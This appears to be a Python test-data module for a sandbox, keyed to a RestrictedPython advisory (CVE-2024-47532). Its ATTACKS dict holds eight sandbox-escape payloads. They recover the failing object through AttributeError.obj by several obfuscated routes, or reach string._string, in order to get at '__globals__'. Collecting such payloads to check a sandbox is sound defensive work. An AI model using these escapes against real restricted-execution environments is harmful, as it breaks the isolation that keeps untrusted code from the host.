"""CVE-2024-47532, RestrictedPython before 7.3: AttributeError.obj hands out the object that the failing code held, and
the `string` module a way to make it fail where wanted. The same trick opened n8n (CVE-2026-0863).
"""

ADVISORY = "CVE-2024-47532"
GUARANTEE = "no-reflection"
ATTACKS = {
    "obj_of_a_class_walk": """
try:
    "{0.__globals__.nothing}".format(helper)
except AttributeError as error:
    LOOT = error.obj
""",
    "obj_of_formatter": """
import string
try:
    string.Formatter().format("{0.__globals__.nothing}", helper)
except AttributeError as error:
    LOOT = error.obj
""",
    "obj_by_getattr": """
try:
    "{0.__globals__.nothing}".format(helper)
except AttributeError as error:
    LOOT = getattr(error, "o" + "bj")
""",
    "obj_by_format": """
try:
    "{0.__globals__.nothing}".format(helper)
except AttributeError as error:
    LOOT = "{0.obj}".format(error)
""",
    "obj_by_pattern": """
try:
    "{0.__globals__.nothing}".format(helper)
except AttributeError as error:
    match error:
        case AttributeError(obj=found):
            LOOT = found
""",
    "obj_by_attrgetter": """
import operator
try:
    "{0.__globals__.nothing}".format(helper)
except AttributeError as error:
    LOOT = operator.attrgetter("obj")(error)
""",
    "the_string_module": """
import string
LOOT = string._string
""",
    "obj_of_a_module_walk": """
import json
try:
    json.decoder.nothing
except AttributeError as error:
    LOOT = error.obj
""",
}
